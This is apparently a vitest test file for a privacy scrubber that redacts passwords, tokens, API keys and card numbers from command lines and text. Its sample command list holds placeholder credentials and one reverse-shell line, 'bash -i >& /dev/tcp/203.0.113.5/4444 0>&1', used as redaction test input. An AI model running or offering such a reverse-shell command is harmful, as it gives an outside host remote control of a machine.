import { describe, expect, it } from 'vitest';
import { redactCommand } from '../../agent/src/redact.js';
import { luhnValid, scrubCommand, scrubText } from '../../src/privacy/scrub.js';

/** The agent's own cases (agent/test/redact.test.ts) and more: the service scrubs what the agent would. */
const COMMANDS = [
  '/usr/bin/mysql -u root -pS3cretPass db',
  "mysqldump -h db -p'pa ss' shop",
  'sshpass -p hunter2 ssh root@10.0.0.5',
  '/opt/app/cli --password=hunter2 --user bob',
  'pg_dump --db-password hunter2 -f out.sql',
  'deploy --api-key "abc def" --token=t0k3n',
  'env DB_PASSWORD=hunter2 MYSQL_PWD=x ./run.sh',
  'curl -u admin:hunter2 https://api.example.com',
  'git clone https://bob:hunter2@git.example.com/r.git',
  "curl -H 'Authorization: Bearer abc.def.ghi' https://x",
  'echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 | gh auth login --with-token',
  'aws s3 ls --profile AKIAIOSFODNN7EXAMPLE',
  'mkdir -p /srv/app/releases',
  'cp -pr /etc/nginx /backup',
  'ssh -p 2222 deploy@10.0.0.5',
  'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
  'tar -czf /tmp/x.tgz --exclude=.git .',
];

describe('command lines', () => {
  it.each(COMMANDS)('scrubs %s as the agent does', (command) => {
    expect(scrubCommand(command)).toBe(redactCommand(command));
  });

  it('scrubs the glued -p of the MySQL client and nothing of mkdir -p', () => {
    expect(scrubCommand('mysql -u root -pS3cretPass shop')).toBe('mysql -u root -p*** shop');
    expect(scrubCommand('mkdir -p /srv/x')).toBe('mkdir -p /srv/x');
  });
});

describe('texts', () => {
  it('checks card numbers with Luhn', () => {
    expect(luhnValid('4111 1111 1111 1111')).toBe(true);
    expect(luhnValid('4111-1111-1111-1112')).toBe(false);
    expect(luhnValid('1234567890123')).toBe(false);
    expect(scrubText('paid with 4111-1111-1111-1111 today')).toBe('paid with *** today');
    expect(scrubText('order 4111-1111-1111-1112 today')).toBe('order 4111-1111-1111-1112 today');
  });

  it('scrubs bearer credentials, API keys and JSON Web Tokens, and leaves plain text', () => {
    expect(scrubText('Authorization: Bearer abcdefghijklmnop1234')).toBe('Authorization: Bearer ***');
    expect(scrubText('key sk_live_abcdefghijklmnop')).toBe('key ***');
    expect(scrubText('jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig_nature')).toBe('jwt ***');
    expect(scrubText('a plain note about tokens')).toBe('a plain note about tokens');
  });
});
